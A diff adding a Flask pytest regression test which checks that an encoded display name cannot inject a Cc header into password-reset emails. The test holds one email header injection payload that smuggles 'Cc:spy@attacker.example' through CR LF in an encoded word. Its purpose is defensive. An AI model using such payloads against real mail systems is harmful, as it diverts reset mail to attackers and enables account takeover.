@@ -94,6 +94,30 @@ def test_a_reset_mail_reaches_the_owner_in_their_name_and_zone(
     assert link_in(mail, "/reset-password/").startswith("http://127.0.0.1:5000/reset-password/")
 
 
+def test_a_display_name_cannot_send_the_reset_mail_elsewhere(
+    mail_app: Flask, client: FlaskClient, smtp_server: SMTPServer
+) -> None:
+    """A session held for a minute (a shared computer) could set a display name that is an
+    encoded word for "CR LF Cc: spy": the owner's reset mail then went to the spy, and not to
+    the owner (an outside probe, through SMTP as here). No password is needed to set a name,
+    and a password change does not undo it."""
+    auth = AuthActions(client)
+    auth.signup("ada", timezone="Europe/Berlin")
+    name = "=?utf-8?q?Ada=0D=0ACc:spy@attacker.example?="
+    token = csrf_token(client, "/profile/edit")
+    form = {"csrf_token": token, "display_name": name, "timezone": "Europe/Berlin"}
+    assert client.post("/profile/edit", data=form).status_code == 302
+    auth.logout()
+    smtp_server.received.clear()
+
+    # Anyone may ask, from a browser with no session.
+    assert ask_for_reset(mail_app.test_client(), "ada@example.com").status_code == 302
+    assert [r.rcpt_tos for r in smtp_server.received] == [["ada@example.com"]]
+    (mail,) = mails_to(smtp_server, "ada@example.com")
+    assert mail["Cc"] is None
+    assert "Ada=0D=0ACc:spy@attacker.example" in str(mail["To"])
+
+
 def test_a_reset_link_is_never_built_from_an_untrusted_host_header(
     client: FlaskClient, ada: AuthActions, smtp_server: SMTPServer
 ) -> None:
